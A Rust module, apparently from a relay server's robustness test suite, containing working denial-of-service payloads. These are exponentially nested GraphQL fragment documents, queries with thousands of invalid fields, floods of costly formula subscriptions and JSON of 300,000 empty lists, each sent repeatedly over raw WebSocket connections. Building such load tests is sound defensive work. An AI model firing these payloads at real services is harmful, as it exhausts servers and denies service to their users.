//! Attacks on the relay's CPU through the doors: documents, formulas, and lists of empty lists.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use serde_json::json;

use super::attacks::Attack;

/// Fragments of one document, which has about 49 kB.
const FRAGMENTS: usize = 990;

/// Errors of one document.
const ERRORS: usize = 3_400;

/// Cheap formulas of one connection.
const FORMULAS: usize = 2_000;

/// Formulas with a large result of one connection.
const LARGE_FORMULAS: usize = 4;

/// Connections of each attack.
const CONNECTIONS: usize = 3;

/// What an attacker says first, and what it repeats.
struct Words {
    path: &'static str,
    subprotocol: &'static str,
    first: Vec<u8>,
    again: fn(usize) -> Vec<u8>,
}

/// Valid documents of fragments that spread each other, all different.
pub(super) fn compile_documents(relay: SocketAddr, time: Duration) -> Attack {
    attack(relay, time, || Words {
        path: "/ws",
        subprotocol: "Sec-WebSocket-Protocol: graphql-transport-ws\r\n",
        first: text(r#"{"type":"connection_init"}"#),
        again: |number| {
            let fragment = |at: usize| match at + 1 {
                FRAGMENTS => format!("fragment A{at} on Channel{{id}} "),
                next => {
                    let after = (next + 1).min(FRAGMENTS - 1);
                    format!("fragment A{at} on Channel{{...A{next} ...A{next} ...A{after}}} ")
                }
            };
            let fragments: String = (0..FRAGMENTS).map(fragment).collect();
            let query = format!("query{{getChannel(id:\"V\"){{...A0}}}} {fragments}#{number}");
            begun_and_ended(number, &query)
        },
    })
}

/// Documents with an error in each field, all different.
pub(super) fn send_wrong_documents(relay: SocketAddr, time: Duration) -> Attack {
    attack(relay, time, || Words {
        path: "/ws",
        subprotocol: "Sec-WebSocket-Protocol: graphql-transport-ws\r\n",
        first: text(r#"{"type":"connection_init"}"#),
        again: |number| {
            let fields: String = (0..ERRORS).map(|at| format!("valu{at} ")).collect();
            let query = format!("query{{getChannel(id:\"V\"){{{fields}}}}}#{number}");
            begun_and_ended(number, &query)
        },
    })
}

/// An operation that ends before the next begins.
fn begun_and_ended(number: usize, query: &str) -> Vec<u8> {
    let id = number.to_string();
    let begin = json!({"type": "subscribe", "id": id, "payload": {"query": query}});
    let end = json!({"type": "complete", "id": id});
    [begin, end]
        .map(|message| text(&message.to_string()))
        .concat()
}

/// Formulas over a fast PV, and some with large results.
pub(super) fn compute_formulas(relay: SocketAddr, time: Duration) -> Attack {
    attack(relay, time, || {
        let cheap = (0..FORMULAS).map(|n| format!("=`sim://ramp(0,10,-1,0.01)` + {n}"));
        let large = (0..LARGE_FORMULAS)
            .map(|n| format!("=arrayPow(`sim://noisewave(0,5,400000,0.1)`, {n}.5)"));
        let names: Vec<_> = cheap.chain(large).collect();
        Words {
            path: "/pvws/pv",
            subprotocol: "",
            first: text(&json!({"type": "subscribe", "pvs": names}).to_string()),
            again: |_| text(r#"{"type":"ping"}"#),
        }
    })
}

/// Lists of empty lists in the place of names.
pub(super) fn read_empty_lists(relay: SocketAddr, time: Duration) -> Attack {
    attack(relay, time, || Words {
        path: "/pvws/pv",
        subprotocol: "",
        first: Vec::new(),
        again: |_| {
            let lists = "[],".repeat(300_000);
            text(&format!("{{\"type\":\"subscribe\",\"pvs\":[{lists}[]]}}"))
        },
    })
}

fn attack(relay: SocketAddr, time: Duration, words: fn() -> Words) -> Attack {
    Attack::begin(time, move |until| {
        std::thread::scope(|scope| {
            for connection in 0..CONNECTIONS {
                scope.spawn(move || {
                    let mut number = connection * 1_000_000;
                    while Instant::now() < until {
                        // The relay may be away, or close the connection.
                        let _ = speak(relay, &words(), until, &mut number);
                        std::thread::sleep(Duration::from_millis(20));
                    }
                });
            }
        });
    })
}

/// One connection: says what there is to say, and reads what comes.
fn speak(
    relay: SocketAddr,
    words: &Words,
    until: Instant,
    number: &mut usize,
) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(relay)?;
    let patience = Some(Duration::from_millis(20));
    stream.set_read_timeout(patience)?;
    stream.set_write_timeout(patience)?;
    let Words {
        path, subprotocol, ..
    } = words;
    let handshake = format!(
        "GET {path} HTTP/1.1\r\nHost: {relay}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{subprotocol}\r\n"
    );
    let mut unsent = [handshake.into_bytes(), words.first.clone()].concat();
    let mut taken = vec![0; 1 << 16];
    while Instant::now() < until {
        match stream.write(&unsent) {
            Ok(count) => drop(unsent.drain(..count)),
            Err(error) if is_patient(&error) => {}
            Err(error) => return Err(error),
        }
        if unsent.is_empty() {
            *number += 1;
            unsent = (words.again)(*number);
        }
        match stream.read(&mut taken) {
            Ok(0) => return Ok(()),
            Ok(_) => {}
            Err(error) if is_patient(&error) => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

fn is_patient(error: &std::io::Error) -> bool {
    use std::io::ErrorKind;
    matches!(
        error.kind(),
        ErrorKind::WouldBlock | ErrorKind::TimedOut | ErrorKind::Interrupted
    )
}

/// A text message with a mask of zeros.
fn text(payload: &str) -> Vec<u8> {
    let mut message = vec![0x81];
    match payload.len() {
        length @ 0..=125 => message.push(0x80 | length as u8),
        length @ 126..=0xffff => {
            message.push(0x80 | 126);
            message.extend((length as u16).to_be_bytes());
        }
        length => {
            message.push(0x80 | 127);
            message.extend((length as u64).to_be_bytes());
        }
    }
    message.extend([0; 4]);
    message.extend(payload.as_bytes());
    message
}
